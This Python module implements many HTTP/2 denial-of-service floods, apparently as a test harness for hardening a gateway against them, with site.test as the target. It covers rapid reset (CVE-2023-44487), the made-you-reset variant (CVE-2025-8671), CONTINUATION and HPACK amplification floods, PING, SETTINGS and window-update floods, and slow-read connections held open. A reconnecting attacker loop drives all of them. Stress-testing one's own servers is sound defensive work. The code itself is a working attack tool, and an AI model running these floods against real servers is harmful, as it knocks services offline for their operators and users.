"""Floods over HTTP/2. Each attack is what a connection opens with, and batches of frames without end."""

import itertools
import ssl
import struct
import time

import compression
from frames import (
    ACK, CHROME, CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PADDED, PING, PRIORITY, SETTINGS, Client, Closed,
    Late, frame, pseudo, request, reset, settings, window)

HOST = b"site.test"
# Frames that are written at once.
BATCH = 200
# Streams of a connection, for attacks that open many: the numbers end at 2^31.
LAST = (1 << 31) - 2 * BATCH - 3
PAGE = pseudo(HOST) + CHROME
UPLOAD = pseudo(HOST, method=b"POST") + CHROME
DOWNLOAD = pseudo(HOST, b"/big") + CHROME
REFERENCE = compression.indexed(62)
MOST_WINDOW = 0x7FFFFFFF


def each_stream(one):
    """Batches of what `one` makes of each new stream."""
    for first in range(1, LAST, 2 * BATCH):
        yield b"".join(one(stream) for stream in range(first, first + 2 * BATCH, 2))


def again(piece):
    yield from itertools.repeat(piece * BATCH)


def opened(streams, fields=UPLOAD, flags=END_HEADERS):
    return b"".join(request(stream, fields, flags) for stream in range(1, 2 * streams, 2))


def entry(size):
    """A request that enters a large field into the table of HPACK."""
    return compression.block(PAGE) + compression.kept(b"x-a", b"b" * size)


# ---- what is reset: by the client (CVE-2023-44487), or by us for what it sends (CVE-2025-8671)
def rapid_reset():
    yield from each_stream(lambda stream: request(stream, PAGE) + reset(stream))


def rapid_reset_uploads():
    yield from each_stream(lambda stream: request(stream, UPLOAD, END_HEADERS) + frame(DATA, 0, stream, b"x") + reset(stream))


def rapid_reset_every_second():
    yield from each_stream(lambda stream: request(stream, PAGE) + (reset(stream) if stream % 4 == 1 else b""))


def rapid_reset_downloads():
    yield from each_stream(lambda stream: request(stream, DOWNLOAD) + reset(stream))


def made_reset(spoil):
    """Requests that we have to reset, by what comes behind them."""
    yield from each_stream(lambda stream: request(stream, UPLOAD, END_HEADERS) + spoil(stream))


def made_reset_window_zero():
    yield from made_reset(lambda stream: window(stream, 0))


def made_reset_window_overflow():
    yield from made_reset(lambda stream: window(stream, MOST_WINDOW))


def made_reset_data_after_end():
    yield from each_stream(lambda stream: request(stream, PAGE) + frame(DATA, 0, stream, b"x"))


def made_reset_headers_after_end():
    yield from each_stream(lambda stream: request(stream, PAGE) + request(stream, PAGE))


def made_reset_priority_length():
    yield from made_reset(lambda stream: frame(PRIORITY, 0, stream, b"1234"))


def made_reset_priority_self():
    yield from made_reset(lambda stream: frame(PRIORITY, 0, stream, struct.pack(">IB", stream, 5)))


def made_reset_length():
    fields = [*UPLOAD, (b"content-length", b"1")]
    yield from each_stream(lambda stream: request(stream, fields, END_HEADERS) + frame(DATA, END_STREAM, stream, b"xyz"))


def made_reset_malformed():
    yield from each_stream(lambda stream: request(stream, [*PAGE, (b"connection", b"close")]))


def made_reset_too_many():
    yield from each_stream(lambda stream: request(stream, UPLOAD, END_HEADERS))


# ---- header blocks
def continuation_endless():
    yield frame(HEADERS, END_STREAM, 1, compression.block(PAGE))
    yield from itertools.repeat(frame(CONTINUATION, 0, 1, compression.block([(b"x-a", b"b" * 200)]) * 60))


def continuation_empty():
    yield frame(HEADERS, END_STREAM, 1, compression.block(PAGE))
    yield from again(frame(CONTINUATION, 0, 1))


def continuation_tiny():
    yield frame(HEADERS, END_STREAM, 1, compression.block(PAGE))
    yield from again(frame(CONTINUATION, 0, 1, b"\x82"))


def hpack_references():
    """One large entry, named without end: 4 KiB for each byte."""
    yield frame(HEADERS, END_STREAM | END_HEADERS, 1, entry(4000))
    block = compression.block(PAGE) + REFERENCE * 16000
    yield from each_stream(lambda stream: frame(HEADERS, END_STREAM | END_HEADERS, stream + 2, block))


def hpack_cookies():
    """The same as crumbs, which no limit on fields counts one by one."""
    yield frame(HEADERS, END_STREAM | END_HEADERS, 1, compression.block(PAGE) + compression.kept(b"cookie", b""))
    block = compression.block(PAGE) + REFERENCE * 16000
    yield from each_stream(lambda stream: frame(HEADERS, END_STREAM | END_HEADERS, stream + 2, block))


def hpack_churn():
    """Each field throws the table out."""
    block = compression.block(PAGE) + compression.kept(b"x-a", b"b" * 4000) * 3
    yield from each_stream(lambda stream: frame(HEADERS, END_STREAM | END_HEADERS, stream, block))


def hpack_sizes():
    block = (compression.sized(0) + compression.sized(4096)) * 1000 + compression.block(PAGE)
    yield from each_stream(lambda stream: frame(HEADERS, END_STREAM | END_HEADERS, stream, block))


# ---- frames that cost us more than the client
def ping():
    yield from again(frame(PING, 0, 0, b"12345678"))


def ping_answers():
    yield from again(frame(PING, ACK, 0, b"12345678"))


def settings_empty():
    yield from again(settings())


def settings_full():
    yield from itertools.repeat(settings(*[(4, 65535), (1, 4096)] * 1365))


def settings_windows():
    """Each one moves the windows of a hundred streams."""
    yield settings((4, 0)) + opened(100, DOWNLOAD, END_STREAM | END_HEADERS)
    yield from again(settings((4, 1)) + settings((4, 0)))


def settings_tables():
    yield from again(settings((1, 0)) + settings((1, 1 << 20)))


def settings_answers():
    yield from again(frame(SETTINGS, ACK))


def priority():
    yield from each_stream(lambda stream: frame(PRIORITY, 0, stream, struct.pack(">IB", 0, 5)))


def priority_update():
    yield from again(frame(0x10, 0, 0, struct.pack(">I", 1) + b"u=1"))


def goaway():
    yield from again(frame(GOAWAY, 0, 0, bytes(8)))


def unknown():
    yield from again(frame(0xBB, 0, 0))


def unknown_full():
    yield from itertools.repeat(frame(0xBB, 0, 0, bytes(16384)))


def window_tiny():
    yield from again(window(0, 1))


def window_tiny_streams():
    yield settings((4, 0)) + opened(100, DOWNLOAD, END_STREAM | END_HEADERS)
    for _ in itertools.count():
        yield b"".join(window(stream, 1) for stream in range(1, 200, 2))


# ---- bodies
def data_empty():
    yield opened(1)
    yield from again(frame(DATA, 0, 1))


def data_padding():
    yield opened(1)
    yield from again(frame(DATA, PADDED, 1, b"\xff" + bytes(255)))


def data_tiny():
    yield opened(1)
    yield from again(frame(DATA, 0, 1, b"x"))


# ---- what is kept open: sent once, then nothing
def still(piece):
    yield piece
    while True:
        time.sleep(0.1)
        yield b""


def windows_shut():
    yield from still(settings((4, 0)) + opened(100, DOWNLOAD, END_STREAM | END_HEADERS))


def windows_of_one_byte():
    yield settings((4, 1)) + opened(100, DOWNLOAD, END_STREAM | END_HEADERS)
    while True:
        time.sleep(0.05)
        yield b"".join(window(stream, 1) for stream in range(1, 200, 2))


def unread():
    """A hundred downloads of 64 MiB, of which nothing is ever read."""
    yield from still(settings((4, MOST_WINDOW)) + window(0, MOST_WINDOW - 65535) + opened(100, DOWNLOAD, END_STREAM | END_HEADERS))


def uploads_that_stop():
    yield from still(opened(100) + b"".join(frame(DATA, 0, stream, b"xyz") for stream in range(1, 200, 2)))


def block_open():
    yield from still(frame(HEADERS, END_STREAM, 1, compression.block(PAGE)))


def frame_half():
    yield from still(frame(HEADERS, END_STREAM | END_HEADERS, 1, compression.block(PAGE))[:30])


def idle():
    yield from still(b"")


def leave():
    """A connection for each request, that is not waited for."""
    yield request(1, PAGE)


def connection(how, port, source, until, told, unread=False, name="site.test"):
    """One attacker: floods, and comes again where the gateway ends it."""
    while time.monotonic() < until:
        try:
            with Client(port, name, source=source, timeout=3.0, small=unread) as client:
                told["opened"] += 1
                flood(client, globals()[how](), until, told, unread)
        except Closed:
            told["ended"] += 1
            time.sleep(0.02)
        except (OSError, Late):
            told["refused"] += 1
            time.sleep(0.05)


def flood(client, batches, until, told, unread):
    client.socket.settimeout(3.0)
    for batch in batches:
        if time.monotonic() > until:
            return
        if batch:
            client.send(batch)
            told["bytes"] += len(batch)
        if not unread:
            drain(client)


def drain(client):
    """Reads what is there, and throws it away."""
    client.socket.settimeout(0)
    try:
        while True:
            if not client.socket.recv(65536):
                raise Closed
    except (ssl.SSLWantReadError, BlockingIOError):
        pass
    except OSError as error:
        raise Closed from error
    finally:
        client.socket.settimeout(3.0)
